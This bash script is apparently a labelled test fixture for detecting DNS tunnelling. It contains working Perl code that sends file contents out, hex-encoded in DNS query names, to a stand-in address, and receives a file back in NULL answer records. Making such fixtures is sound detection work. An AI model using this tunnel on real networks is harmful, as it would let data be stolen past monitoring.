#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=perl far=out ready=out:53 seconds=30 parts=dns,nas,outside-web
# Perl speaks DNS over TCP to a server outside itself, a connection for each question: names go up, NULL answers bring a file.
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = out ]; then exec timeout 50 perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "203.0.113.66", LocalPort => 53, Listen => 9, ReuseAddr => 1) or die; open(F, "<", "/usr/bin/openssl");
while ($c = $l->accept) { sysread($c, $q, 1000); next unless length($q) > 16; $q = substr($q, 2); read(F, $d, 900); $a = substr($q, 0, 2) . pack("nnnnn", 0x8580, 1, 1, 0, 0) . substr($q, 12) . pack("nnnNn", 0xc00c, 10, 1, 0, length($d)) . $d; syswrite($c, pack("n", length($a)) . $a); close($c); }'; fi
timeout 26 perl -MIO::Socket::INET -e 'open(F, "<", "/usr/sbin/nginx"); for (my $n = 0; $n < 150; $n++) { read(F, $d, 60); $h = unpack("H*", $d); $name = ""; $name .= chr(length($_)) . $_ for (substr($h, 0, 60), substr($h, 60), "carrier", "example");
$q = pack("nnnnnn", $n, 0x100, 1, 0, 0, 0) . $name . "\0" . pack("nn", 10, 1); $c = IO::Socket::INET->new("203.0.113.66:53") or die; syswrite($c, pack("n", length($q)) . $q); sysread($c, $a, 2000); close($c); select(undef, undef, undef, 0.1); }'
true
